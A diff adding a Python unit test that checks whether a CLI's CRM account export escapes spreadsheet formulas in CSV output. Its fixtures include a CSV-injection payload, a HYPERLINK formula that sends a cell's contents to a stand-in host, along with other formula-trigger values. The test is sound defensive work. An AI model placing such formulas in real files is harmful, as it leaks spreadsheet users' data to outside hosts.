@@ -573,6 +573,35 @@ class NamedAccounts(ApiCase):
         self.assertEqual(r.returncode, 2, r.stderr)
         self.assertRegex(r.stderr, r"^warmline named-accounts: .*HTTP 400")
 
+    def test_csv_formulas_escaped(self):
+        """Names and owners from the CRM that a spreadsheet would run as
+        formulas print in --csv with a leading quote; --json keeps them exact."""
+        admin = ("--token-file", self.admin_file)
+        evil = {"acme.example": ('=HYPERLINK("http://x.example/?"&A1,"Acme")', "@SUM(1+1)"),
+                "globex.example": ("+Globex", "-2+3")}
+        path = os.path.join(self.tmp, "evil.csv")
+        with open(path, "w", newline="") as f:
+            w = csv.writer(f, lineterminator="\r\n")
+            w.writerow(["domain", "name", "owner"])
+            for domain, (name, owner) in evil.items():
+                w.writerow([domain, name, owner])
+        self.cli("named-accounts", "import", path, *admin)
+        got = {n["domain"]: (n["name"], n["owner"])
+               for n in json_lines(self.cli("named-accounts", "list", "--json", *admin).stdout)}
+        self.assertEqual(got, evil)
+        out = self.cli("named-accounts", "list", "--csv", *admin).stdout
+        rows = list(csv.reader(io.StringIO(out, newline="")))
+        got = {r[0]: (r[1], r[2]) for r in rows[1:]}
+        self.assertEqual(got, {d: ("'" + n, "'" + o) for d, (n, o) in evil.items()})
+        rows = list(csv.reader(io.StringIO(self.cli("hot", "--csv", "--token-file",
+                                                    self.read_file).stdout, newline="")))
+        names = {r[rows[0].index("domain")]: r[rows[0].index("name")] for r in rows[1:]
+                 if r[rows[0].index("domain")] in evil}
+        self.assertEqual(names, {d: "'" + n for d, (n, _) in evil.items()})
+        for r in rows[1:]:  # nothing in the file starts a formula
+            for cell in r:
+                self.assertNotIn(cell[:1], ("=", "+", "-", "@", "\t", "\r"), r)
+
     def test_tokens(self):
         wrong = os.path.join(self.tmp, "wrong.token")
         with open(wrong, "w") as f:
